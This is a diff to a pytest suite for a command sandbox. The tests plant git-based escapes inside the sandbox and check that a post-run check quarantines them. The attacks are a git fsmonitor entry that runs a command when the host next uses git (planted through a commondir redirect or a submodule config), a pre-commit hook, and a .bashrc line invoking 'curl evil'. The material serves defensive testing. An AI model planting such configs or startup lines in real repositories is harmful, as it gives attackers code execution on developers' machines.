@@ -325,12 +325,45 @@ def test_as_an_ordinary_user_protected_paths_hold_and_git_works(as_nobody):
 
 def test_as_an_ordinary_user_without_the_tier_the_gap_is_reported(as_nobody):
     """The twin that shows the mount is what refuses: forced off, the same attack gets through
-    — and the run said so beforehand, path by path."""
+    — and the run said so beforehand, path by path. For git, the post-run check (ADR 0019)
+    then finds what was planted, puts the config back and fails the run; `.bashrc` stays
+    written (no check covers start-up files: the degraded list said so)."""
     repo, run = as_nobody
-    r = run(PLANT_ALL, env={"SANDBOY_NAMESPACES": "0"})
-    assert r.returncode == 0, r.stderr
+    before = (repo / ".git" / "config").read_bytes()
+    r = run(PLANT_ALL.replace("exit 0", "grep -c fsmonitor .git/config"), env={"SANDBOY_NAMESPACES": "0"})
+    assert r.stdout.strip() == "1", r  # written during the run
+    assert r.returncode == 125, r.stderr
     assert "fs.protect_defaults" in r.stderr and ".git/config" in r.stderr, r.stderr
-    assert "fsmonitor" in (repo / ".git" / "config").read_text()
+    assert "left code for the host's next git command" in r.stderr, r.stderr
+    assert (repo / ".git" / "config").read_bytes() == before
+    hook = repo / ".git" / "hooks" / "pre-commit"  # written without the x bit: git would not run it
+    assert hook.exists() and not os.stat(hook).st_mode & 0o111
+    assert "curl evil" in (repo / ".bashrc").read_text()
+
+
+@pytest.mark.parametrize("tier", ["tier", "no-tier"])
+@pytest.mark.parametrize("attack", ["commondir", "submodule"])
+def test_as_an_ordinary_user_planted_git_config_is_quarantined(as_nobody, tmp_path, tier, attack):
+    """The post-run check runs in the parent as that user (no capabilities): it still finds and
+    moves what the cage planted (tests/cage/test_git_planted.py for root)."""
+    from sandboy.confine import namespaces as ns
+
+    if tier == "tier" and not ns.availability()[0]:
+        pytest.skip("no namespace tier on this machine")
+    repo, run = as_nobody
+    marker = tmp_path / "PWNED"
+    fsmonitor = f'[core]\\n\\tfsmonitor = "touch {marker}; false"\\n'
+    script = {"commondir": f"mkdir evil && cp -r .git/objects .git/refs evil/ && printf '{fsmonitor}' > evil/config "
+                           "&& echo ../evil > .git/commondir",
+              "submodule": f"git init -q sub && git -C sub commit -q --allow-empty -m s && printf '{fsmonitor}' "
+                           ">> sub/.git/config && git update-index --add --cacheinfo "
+                           "160000,$(git -C sub rev-parse HEAD),sub"}[attack]
+    r = run(script + " && echo PLANTED", env={"SANDBOY_NAMESPACES": "0"} if tier == "no-tier" else None)
+    assert "PLANTED" in r.stdout and r.returncode == 125, r
+    assert (repo / ".sandboy-quarantine").is_dir()
+    assert os.stat(repo / ".sandboy-quarantine").st_uid == NOBODY
+    _host_git(repo, "status")
+    assert not marker.exists()
 
 
 def test_a_reused_cage_is_rebuilt_when_a_start_up_file_appears(cage, namespaces):
